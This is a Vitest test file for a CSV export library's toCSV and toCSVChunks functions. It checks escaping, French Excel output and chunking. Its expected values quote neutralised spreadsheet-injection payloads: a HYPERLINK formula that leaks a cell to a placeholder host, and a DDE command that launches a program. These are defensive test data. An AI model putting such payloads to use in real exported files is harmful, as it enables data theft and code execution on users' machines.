import { readFileSync } from "node:fs";
import { fromCSV, toCSV, toCSVChunks } from "@solidata/core";
import * as aq from "arquero";
import Papa from "papaparse";
import { describe, expect, it } from "vitest";

const fixture = readFileSync(new URL("../fixtures/clean/injection.csv", import.meta.url));

describe("toCSV", () => {
  it("neutralises every injection cell of the fixture, multi-line cells included, and keeps numbers and E.164 exact", () => {
    const { table } = fromCSV(fixture);
    const csv = toCSV(table.select("Nom", "Commentaire", "Téléphone", "Montant"));
    const parsed = Papa.parse<string[]>(csv, { skipEmptyLines: true }).data;
    expect(parsed[0]).toEqual(["Nom", "Commentaire", "Téléphone", "Montant"]);
    const comments = parsed.slice(1).map((r) => r[1]);
    expect(comments).toEqual([
      `'=HYPERLINK("http://exemple.invalid/?d="&A1;"cliquez")`,
      "+33612345678",
      "'-2+3",
      "'@SUM(1)",
      "'\tcaché",
      "'=1+1\r\nseconde ligne",
      "' =cmd|' /C calc'!A0",
      "'\r=2+5",
    ]);
    // no cell of the output starts with a formula character except E.164 numbers and typed numbers
    for (const row of parsed.slice(1)) {
      for (const cell of row.slice(0, 3)) expect(/^[=@\t\r-]|^\+(?!\d+$)/.test(cell ?? "")).toBe(false);
    }
    expect(parsed.slice(1).map((r) => r[3])).toEqual(["12.5", "3", "-4", "0", "1", "2", "5", "6"]);
    expect(parsed[2]?.[2]).toBe("+33612345678");
  });

  it("writes what French Excel opens right with excel: true", () => {
    const table = aq.table({ nom: ["Élodie", "a;b"], heures: [2.5, -1], date: [new Date(Date.UTC(2024, 2, 1)), null] });
    expect(toCSV(table, { excel: true })).toBe('\uFEFFnom;heures;date\r\nÉlodie;2,5;2024-03-01\r\n"a;b";-1;\r\n');
  });

  it("quotes what needs quoting and writes missing values empty", () => {
    const table = aq.table({ a: ['dit "oui"', " espace", null], b: [true, false, null] });
    expect(toCSV(table)).toBe('a,b\n"dit ""oui""",true\n" espace",false\n,\n');
  });

  it("refuses a delimiter that would break the file", () => {
    expect(() => toCSV(aq.table({ a: [1] }), { delimiter: '"' })).toThrow(
      "toCSV requires a delimiter of one character",
    );
  });
});

describe("toCSVChunks", () => {
  it("yields the same text as toCSV, in chunks of the asked size", () => {
    const table = aq.table({ a: [1, 2, 3, 4, 5], b: ["x", "=y", "z", "é", "\n"] });
    const chunks = [...toCSVChunks(table, {}, 2)];
    expect(chunks).toHaveLength(3);
    expect(chunks.join("")).toBe(toCSV(table));
  });
});
